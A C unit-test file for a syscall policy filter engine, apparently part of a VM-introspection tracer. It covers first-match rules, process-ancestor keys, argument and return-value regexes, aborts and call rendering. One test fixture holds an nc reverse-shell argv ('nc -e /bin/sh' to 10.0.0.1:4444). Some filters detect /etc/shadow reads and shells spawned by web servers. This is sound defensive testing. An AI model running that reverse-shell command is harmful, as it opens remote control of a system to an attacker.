/* Filters: matching (first match wins, when, process keys, ancestors,
 * argument regexes and decodings, result regexes, aborts), the manual's
 * examples on today's names, and rendering calls for events. */
#include "policy-test.h"
#include "policy/enforce.h"

static void
test_first_match_wins(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=openat,name=cat\n"
                                   "Filter function=openat,apply=1,retval=-13\n"
                                   "Filter function=*\n");
  Call k;
  call_init(&k, "openat", "cat", 10, 1);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  GtVerdict v;
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_false(v.abort);
  g_assert_cmpstr(gt_filter_describe(v.filter), ==, "Filter function=openat,name=cat");
  g_assert_cmpuint(gt_filter_line(v.filter), ==, 1);
  call_init(&k, "openat", "dog", 10, 1);
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_cmpuint(v.index, ==, 1);
  g_assert_true(v.abort);
  g_assert_cmpint(v.retval, ==, -13);
  call_init(&k, "read", "dog", 10, 1);
  g_assert_cmpint(first_match(c, &k), ==, 2);
}

static void
test_when(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=read,when=pre\n"
                                   "Filter function=write,when=post\n"
                                   "Filter function=close,when=both\n"
                                   "Filter function=dup\n");
  Call k;
  const char *fns[] = { "read", "write", "close", "dup" };
  const gboolean pre[] = { TRUE, FALSE, TRUE, TRUE }, post[] = { FALSE, TRUE, TRUE, FALSE };
  for (guint i = 0; i < 4; i++) {
    call_init(&k, fns[i], "x", 1, 0);
    g_assert_cmpint(first_match(c, &k) >= 0, ==, pre[i]);
    call_return(&k, 0);
    g_assert_cmpint(first_match(c, &k) >= 0, ==, post[i]);
  }
  /* A return the engine reports without a result still counts as post. */
  call_init(&k, "write", "x", 1, 0);
  k.c.post = TRUE;
  g_assert_cmpint(first_match(c, &k), ==, 1);
}

static void
test_process_keys(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter pid=42\n"
                                   "Filter ppid=7\n"
                                   "Filter uid=0\n"
                                   "Filter gid=27\n"
                                   "Filter ppid=^300\n"
                                   "Filter name=^apache2\n"
                                   "Filter name=sshd\n");
  Call k;
  call_init(&k, "read", "x", 42, 1);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_init(&k, "read", "x", 43, 7);
  g_assert_cmpint(first_match(c, &k), ==, 1);
  call_init(&k, "read", "x", 43, 8);
  k.c.uid = 0;
  g_assert_cmpint(first_match(c, &k), ==, 2);
  call_init(&k, "read", "x", 43, 8);
  k.c.gid = 27;
  g_assert_cmpint(first_match(c, &k), ==, 3);
  /* ppid=^N: the parent or any ancestor. */
  call_init(&k, "read", "x", 43, 300);
  g_assert_cmpint(first_match(c, &k), ==, 4);
  call_init(&k, "read", "x", 43, 8);
  call_ancestor(&k, 8, "sh");
  call_ancestor(&k, 300, "init");
  g_assert_cmpint(first_match(c, &k), ==, 4);
  /* ppid=N without ^ does not look further up; pid=N is not ppid. */
  g_autoptr(GtConfig) direct = parse_ok("Filter ppid=300\n");
  g_assert_cmpint(first_match(direct, &k), ==, -1);
  call_init(&k, "read", "x", 300, 1);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  /* name=^X: the process itself or any ancestor. */
  call_init(&k, "read", "apache2", 50, 1);
  g_assert_cmpint(first_match(c, &k), ==, 5);
  call_init(&k, "read", "nc", 52, 51);
  call_ancestor(&k, 51, "sh");
  call_ancestor(&k, 50, "apache2");
  call_ancestor(&k, 1, "systemd");
  g_assert_cmpint(first_match(c, &k), ==, 5);
  call_init(&k, "read", "sshd", 60, 1);
  call_ancestor(&k, 1, "apache");
  g_assert_cmpint(first_match(c, &k), ==, 6);
  /* name=X is the process's own name only, exactly. */
  call_init(&k, "read", "sh", 61, 60);
  call_ancestor(&k, 60, "sshd");
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_init(&k, "read", "sshd-session", 61, 60);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  /* NULL names from an unreadable guest never match and never crash. */
  call_init(&k, "read", NULL, 61, 60);
  k.c.n_ancestors = 2;
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.c.ancestor_names = NULL;
  k.c.ancestor_pids = NULL;
  g_assert_cmpint(first_match(c, &k), ==, -1);
}

static void
test_long_names(void)
{
  /* The kernel keeps 15 characters of a name. */
  g_autoptr(GtConfig) c = parse_ok("Filter name=php-cgi-worker-pool\n");
  Call k;
  call_init(&k, "read", "php-cgi-worker-", 1, 0);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_init(&k, "read", "php-cgi-worker-pool", 1, 0);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_init(&k, "read", "php-cgi-worker", 1, 0);
  g_assert_cmpint(first_match(c, &k), ==, -1);
}

static void
test_args(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=openat,argname=filename,argval=^/etc/\n"
                                   "Filter function=openat,argname=flags,argval=O_CREAT\n"
                                   "Filter function=read,argval=^7$\n"
                                   "Filter function=write,argname=*,argval=secret\n"
                                   "Filter function=close,argname=fd\n");
  Call k;
  call_init(&k, "openat", "cat", 1, 0);
  call_arg(&k, "dfd", (guint64)-100, "AT_FDCWD");
  call_arg(&k, "filename", 0x7ffd1000, "/etc/shadow");
  call_arg(&k, "flags", 0, "O_RDONLY");
  g_assert_cmpint(first_match(c, &k), ==, 0);
  k.texts[1] = "/home/etc/x"; /* unanchored, but ^ anchors */
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.texts[2] = "O_WRONLY|O_CREAT";
  g_assert_cmpint(first_match(c, &k), ==, 1);
  /* No argname (or *): any argument. */
  call_init(&k, "read", "cat", 1, 0);
  call_arg(&k, "fd", 7, "7");
  call_arg(&k, "buf", 0x1000, "0x1000");
  call_arg(&k, "count", 77, "77");
  g_assert_cmpint(first_match(c, &k), ==, 2);
  k.texts[0] = "8";
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_init(&k, "write", "cat", 1, 0);
  call_arg(&k, "fd", 1, "1");
  call_arg(&k, "buf", 0x1000, "my secret");
  g_assert_cmpint(first_match(c, &k), ==, 3);
  /* argname without argval: the argument must be there. */
  call_init(&k, "close", "cat", 1, 0);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_arg(&k, "fd", 3, NULL);
  g_assert_cmpint(first_match(c, &k), ==, 4);
  /* No texts at all: the raw value in hex stands in. */
  g_autoptr(GtConfig) hex = parse_ok("Filter function=close,argname=fd,argval=^0x3$\n");
  k.c.arg_texts = NULL;
  g_assert_cmpint(first_match(hex, &k), ==, 0);
  k.c.arg_values = NULL;
  g_assert_cmpint(first_match(hex, &k), ==, -1);
}

static void
test_retval_regex(void)
{
  /* The manual's example: returns of waitpid with an actual pid. */
  g_autoptr(GtConfig) c = parse_ok("Filter function=sys_waitpid,name=php-cgi,when=post,"
                                   "retval=^[1-9]\n");
  Call k;
  call_init(&k, "wait4", "php-cgi", 90, 1);
  g_assert_cmpint(first_match(c, &k), ==, -1); /* at the call: no */
  call_return(&k, 97);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_return(&k, 0);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_return(&k, -10);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.c.has_result = FALSE;
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_init(&k, "wait4", "bash", 90, 1);
  call_return(&k, 97);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  g_assert_true(has_note(c, "sys_waitpid is wait4 on this kernel"));
}

static void
test_retval_and_argval(void)
{
  /* The manual could not combine them; guestrace can, in any key order. */
  g_autoptr(GtConfig) c = parse_ok("Filter retval=^-,argval=^/etc/,when=post,"
                                   "argname=filename,function=openat\n");
  Call k;
  call_init(&k, "openat", "cat", 1, 0);
  call_arg(&k, "filename", 1, "/etc/shadow");
  call_return(&k, -13);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_return(&k, 3);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.texts[0] = "/tmp/x";
  call_return(&k, -13);
  g_assert_cmpint(first_match(c, &k), ==, -1);
}

static void
test_result_errno(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter argname=retval:errno,argval=^EACCES$,when=post\n"
                                   "Filter function=read,argname=retval,argval=^0$,when=both\n");
  Call k;
  call_init(&k, "openat", "cat", 1, 0);
  call_return(&k, -13);
  g_assert_cmpint(first_match(c, &k), ==, 0);
  call_return(&k, -2);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_init(&k, "read", "cat", 1, 0);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_return(&k, 0);
  g_assert_cmpint(first_match(c, &k), ==, 1);
}

static void
test_abort(void)
{
  /* apply after retval: key order does not matter any more. */
  g_autoptr(GtConfig) c = parse_ok("Filter function=unlinkat,retval=-EPERM,apply=1\n"
                                   "Filter function=mkdir,apply=0,retval=*\n"
                                   "Filter function=rmdir,apply=1,retval=0\n"
                                   "Filter function=kill,apply=1,retval=-9223372036854775808\n");
  Call k;
  GtVerdict v;
  call_init(&k, "unlinkat", "rm", 1, 0);
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_true(v.abort);
  g_assert_cmpint(v.retval, ==, -1);
  g_assert_true(gt_filter_is_abort(v.filter));
  call_return(&k, 0); /* aborts act at the call */
  g_assert_false(gt_config_match(c, &k.c, &v));
  call_init(&k, "mkdir", "mk", 1, 0);
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_false(v.abort);
  g_assert_cmpint(v.retval, ==, 0);
  call_init(&k, "rmdir", "rm", 1, 0);
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_true(v.abort);
  g_assert_cmpint(v.retval, ==, 0);
  call_init(&k, "kill", "rm", 1, 0);
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_cmpint(v.retval, ==, G_MININT64);
}

/* The manual's examples, on today's names. */
static void
test_manual_php_execve(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter  function=sys_execve,name=php-cgi,apply=1,retval=-1\n");
  Call k;
  GtVerdict v;
  call_init(&k, "execve", "php-cgi", 200, 100);
  call_arg(&k, "filename", 0x1000, "/bin/sh");
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_true(v.abort);
  g_assert_cmpint(v.retval, ==, -1);
  call_init(&k, "execve", "bash", 200, 100);
  g_assert_false(gt_config_match(c, &k.c, &v));
}

static void
test_manual_do_exit(void)
{
  g_autoptr(GtConfig) c = parse_ok(
    "Filter function=do_exit,name=apache,argname=code:signal,argval=SEGV\n");
  Call k;
  call_init(&k, "do_exit", "apache", 300, 1);
  call_arg(&k, "code", 0x8b, "139");
  g_assert_cmpint(first_match(c, &k), ==, 0);
  k.vals[0] = 0x100; /* exit(1) */
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.vals[0] = 9; /* SIGKILL */
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.vals[0] = 0xdeadbeef; /* the manual's own: 0xef & 0x7f = 111, no signal */
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.vals[0] = 0xff8b;
  g_assert_cmpint(first_match(c, &k), ==, 0);
  GtVerdict v;
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_autofree char *s = gt_filter_render_call(v.filter, &k.c);
  g_assert_cmpstr(s, ==, "do_exit(code=139,code:signal=SIGSEGV)");
  k.texts[0] = NULL;
  g_autofree char *s2 = gt_filter_render_call(v.filter, &k.c);
  g_assert_cmpstr(s2, ==, "do_exit(code=0xff8b,code:signal=SIGSEGV)");
}

static void
test_manual_nc_via_apache(void)
{
  g_autoptr(GtConfig) c = parse_ok(
    "Filter  function=sys_execve,argname=regs:filename,argval=/usr/bin/nc,name=^apache\n");
  g_assert_true(has_note(c, "regs:filename is filename"));
  Call k;
  /* apache -> sh -> execve("/usr/bin/nc") */
  call_init(&k, "execve", "sh", 402, 401);
  call_arg(&k, "filename", 0x1000, "/usr/bin/nc");
  call_arg(&k, "argv", 0x2000, "[nc, -e, /bin/sh, 10.0.0.1, 4444]");
  call_arg(&k, "envp", 0x3000, "0x3000 /* 3 vars */");
  call_ancestor(&k, 401, "sh");
  call_ancestor(&k, 400, "apache");
  call_ancestor(&k, 1, "init");
  g_assert_cmpint(first_match(c, &k), ==, 0);
  k.anames[1] = "nginx";
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.anames[1] = "apache";
  k.texts[0] = "/usr/bin/ls";
  g_assert_cmpint(first_match(c, &k), ==, -1);
}

static void
test_manual_socketcall(void)
{
  g_autoptr(GtConfig) c = parse_ok(
    "Filter  function=sys_socketcall,argname=call:call,argval=connect \n"
    "Filter  function=sys_socketcall,argname=call:call,argval=accept,when=post\n");
  g_assert_true(has_note(c, "sys_socketcall call=connect is connect on this kernel"));
  g_assert_true(has_note(c, "sys_socketcall call=accept is accept, accept4 on this kernel"));
  const char *connect[] = { "connect", NULL }, *accept[] = { "accept", "accept4", NULL };
  g_assert_cmpstrv(gt_filter_functions(gt_config_filter(c, 0)), connect);
  g_assert_cmpstrv(gt_filter_functions(gt_config_filter(c, 1)), accept);
  g_assert_true(gt_config_needs_post(c, "accept4"));
  g_assert_false(gt_config_needs_post(c, "connect"));
  Call k;
  call_init(&k, "connect", "curl", 500, 1);
  call_arg(&k, "fd", 3, "3");
  call_arg(&k, "uservaddr", 0x1000, "{sa_family=AF_INET}");
  call_arg(&k, "addrlen", 16, "16");
  GtVerdict v;
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_assert_cmpuint(v.index, ==, 0);
  g_autofree char *s = gt_filter_render_call(v.filter, &k.c);
  g_assert_cmpstr(s, ==, "connect(fd=3,uservaddr={sa_family=AF_INET},addrlen=16,"
                         "call:call=connect)");
  call_init(&k, "accept4", "sshd", 501, 1);
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_return(&k, 5);
  g_assert_cmpint(first_match(c, &k), ==, 1);
  call_init(&k, "sendto", "curl", 500, 1);
  call_return(&k, 5);
  g_assert_cmpint(first_match(c, &k), ==, -1);
}

static void
test_socketcall_variants(void)
{
  /* The regex applies to the old call names: send also matches sendto,
   * sendmsg and sendmmsg; anchors work on the old names. */
  g_autoptr(GtConfig) c = parse_ok("Filter function=sys_socketcall,argname=call:call,argval=send\n"
                                   "Filter function=socketcall,argname=call:call,argval=^recv$\n"
                                   "Filter function=sys_socketcall,argname=call,argval=^3$\n"
                                   "Filter function=sys_socketcall,argname=call:call\n"
                                   "Filter function=sys_socketcall\n");
  const char *send[] = { "sendto", "sendmsg", "sendmmsg", NULL };
  const char *recv[] = { "recvfrom", NULL }, *three[] = { "connect", NULL };
  g_assert_cmpstrv(gt_filter_functions(gt_config_filter(c, 0)), send);
  g_assert_cmpstrv(gt_filter_functions(gt_config_filter(c, 1)), recv);
  g_assert_cmpstrv(gt_filter_functions(gt_config_filter(c, 2)), three);
  g_assert_cmpuint(g_strv_length((char **)gt_filter_functions(gt_config_filter(c, 3))), ==, 18);
  g_assert_cmpuint(g_strv_length((char **)gt_filter_functions(gt_config_filter(c, 4))), ==, 18);
  /* Native: for function connect the decoding call yields "connect". */
  g_autoptr(GtConfig) n = parse_ok("Filter function=connect,argname=call:call,argval=^connect$\n");
  Call k;
  call_init(&k, "connect", "curl", 1, 0);
  g_assert_cmpint(first_match(n, &k), ==, 0);
}

static void
test_regex_commas(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=read,argname=count,argval=^7{2,3}$,pid=5\n"
                                   "Filter function=write,argname=buf,argval=a\\,pid=b\n");
  Call k;
  call_init(&k, "read", "x", 5, 0);
  call_arg(&k, "count", 777, "777");
  g_assert_cmpint(first_match(c, &k), ==, 0);
  k.texts[0] = "7";
  g_assert_cmpint(first_match(c, &k), ==, -1);
  k.texts[0] = "777";
  k.c.pid = 6;
  g_assert_cmpint(first_match(c, &k), ==, -1);
  call_init(&k, "write", "x", 5, 0);
  call_arg(&k, "buf", 1, "a,pid=b");
  g_assert_cmpint(first_match(c, &k), ==, 1);
}

static void
test_hostile_subjects(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=write,argname=buf,argval=end$\n"
                                   "Filter function=write,argname=buf,argval=^(\\w+\\s?)*$\n");
  Call k;
  /* Beyond GT_POLICY_SUBJECT_MAX bytes a string is not looked at. */
  g_autofree char *big = g_strnfill(GT_POLICY_SUBJECT_MAX + 100, 'a');
  memcpy(big + GT_POLICY_SUBJECT_MAX + 97, "end", 3);
  /* A regex that backtracks exponentially: PCRE's limit ends it. */
  big[GT_POLICY_SUBJECT_MAX - 1] = '!';
  call_init(&k, "write", "x", 1, 0);
  call_arg(&k, "buf", 0, big);
  gint64 t0 = g_get_monotonic_time();
  g_assert_cmpint(first_match(c, &k), ==, -1);
  g_test_message("pathological regex on %d bytes: %" G_GINT64_FORMAT " us",
                 GT_POLICY_SUBJECT_MAX, g_get_monotonic_time() - t0);
  /* Not UTF-8: matched bytewise, no crash. */
  call_init(&k, "write", "x", 1, 0);
  call_arg(&k, "buf", 0, "\xff\xfe\xc3");
  g_autoptr(GtConfig) raw = parse_ok("Filter function=write,argname=buf,argval=\\xfe\n");
  g_assert_cmpint(first_match(raw, &k), ==, 0);
  k.texts[0] = "\xc3";
  g_assert_cmpint(first_match(raw, &k), ==, -1);
  /* Rendering escapes control bytes and cuts long values. */
  call_init(&k, "write", "x", 1, 0);
  call_arg(&k, "buf", 0, "line\nVMI type=fake\x7f");
  g_autofree char *s = gt_filter_render_call(NULL, &k.c);
  g_assert_cmpstr(s, ==, "write(buf=line\\nVMI type=fake\\x7f)");
  call_init(&k, "write", "x", 1, 0);
  call_arg(&k, "buf", 0, big);
  g_autofree char *s2 = gt_filter_render_call(NULL, &k.c);
  g_assert_cmpuint(strlen(s2), ==, strlen("write(buf=)") + GT_POLICY_RENDER_MAX + 3);
  g_assert_true(g_str_has_suffix(s2, "aaa...)"));
  big[GT_POLICY_SUBJECT_MAX - 1] = 'a';
  call_init(&k, "write", "x", 1, 0);
  call_arg(&k, "buf", 0, big);
  g_assert_cmpint(first_match(c, &k), ==, 1);
}

static void
test_render(void)
{
  Call k;
  call_init(&k, "openat", "cat", 1, 0);
  call_arg(&k, "dfd", (guint64)-100, "AT_FDCWD");
  call_arg(&k, "filename", 1, "/nope");
  k.names[1] = NULL;
  call_return(&k, -2);
  g_autofree char *s = gt_filter_render_call(NULL, &k.c);
  g_assert_cmpstr(s, ==, "openat(dfd=AT_FDCWD,arg1=/nope) = -2 ENOENT");
  call_init(&k, "getpid", "cat", 1, 0);
  call_return(&k, 1);
  g_autofree char *s2 = gt_filter_render_call(NULL, &k.c);
  g_assert_cmpstr(s2, ==, "getpid() = 1");
  g_autoptr(GtConfig) c = parse_ok("Filter argname=retval:errno,when=post\n");
  call_return(&k, -13);
  GtVerdict v;
  g_assert_true(gt_config_match(c, &k.c, &v));
  g_autofree char *s3 = gt_filter_render_call(v.filter, &k.c);
  g_assert_cmpstr(s3, ==, "getpid(retval:errno=EACCES) = -13 EACCES");
}

/* Ancestors are read only for calls a filter matching on them names. */
static void
test_needs_ancestors(void)
{
  g_autoptr(GtConfig) c = parse_ok("Filter function=openat,name=^sshd\n"
                                   "Filter function=execve,ppid=^1\n"
                                   "Filter function=read,name=cat,ppid=7\n");
  GtEnforcer *e = gt_enforcer_new();
  gt_enforcer_set_config(e, g_steal_pointer(&c));
  g_assert_true(gt_enforcer_needs_ancestors(e, "openat"));
  g_assert_true(gt_enforcer_needs_ancestors(e, "execve"));
  g_assert_false(gt_enforcer_needs_ancestors(e, "read"));
  g_assert_false(gt_enforcer_needs_ancestors(e, "write"));
  g_autoptr(GtConfig) any = parse_ok("Filter name=^init\n");
  gt_enforcer_set_config(e, g_steal_pointer(&any));
  g_assert_true(gt_enforcer_needs_ancestors(e, "write"));
  gt_enforcer_set_config(e, NULL);
  g_assert_false(gt_enforcer_needs_ancestors(e, "write"));
  gt_enforcer_free(e);
}

/* A record's function is the name user space knows (fstat); the kernel's
 * (newfstat) travels beside it. A filter naming either matches; one naming
 * another call does not. */
static void
test_kernel_function_names(void)
{
  g_autoptr(GtConfig) kernel = parse_ok("Filter function=newfstat\n");
  g_autoptr(GtConfig) user = parse_ok("Filter function=fstat\n");
  g_autoptr(GtConfig) other = parse_ok("Filter function=stat\n");
  Call k;
  call_init(&k, "fstat", "cat", 10, 1);
  k.c.kernel_function = "newfstat";
  g_assert_cmpint(first_match(kernel, &k), ==, 0);
  g_assert_cmpint(first_match(user, &k), ==, 0);
  g_assert_cmpint(first_match(other, &k), ==, -1);
  /* Without a kernel name (the same as the user's), only that name. */
  call_init(&k, "fstat", "cat", 10, 1);
  g_assert_cmpint(first_match(kernel, &k), ==, -1);
  g_assert_cmpint(first_match(user, &k), ==, 0);
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/policy/filter/first-match-wins", test_first_match_wins);
  g_test_add_func("/policy/filter/when", test_when);
  g_test_add_func("/policy/filter/kernel-function-names", test_kernel_function_names);
  g_test_add_func("/policy/filter/process-keys", test_process_keys);
  g_test_add_func("/policy/filter/long-names", test_long_names);
  g_test_add_func("/policy/filter/args", test_args);
  g_test_add_func("/policy/filter/retval-regex", test_retval_regex);
  g_test_add_func("/policy/filter/retval-and-argval", test_retval_and_argval);
  g_test_add_func("/policy/filter/result-errno", test_result_errno);
  g_test_add_func("/policy/filter/abort", test_abort);
  g_test_add_func("/policy/filter/manual/php-execve", test_manual_php_execve);
  g_test_add_func("/policy/filter/manual/do-exit", test_manual_do_exit);
  g_test_add_func("/policy/filter/manual/nc-via-apache", test_manual_nc_via_apache);
  g_test_add_func("/policy/filter/manual/socketcall", test_manual_socketcall);
  g_test_add_func("/policy/filter/socketcall-variants", test_socketcall_variants);
  g_test_add_func("/policy/filter/regex-commas", test_regex_commas);
  g_test_add_func("/policy/filter/hostile", test_hostile_subjects);
  g_test_add_func("/policy/filter/render", test_render);
  g_test_add_func("/policy/filter/needs-ancestors", test_needs_ancestors);
  return g_test_run();
}
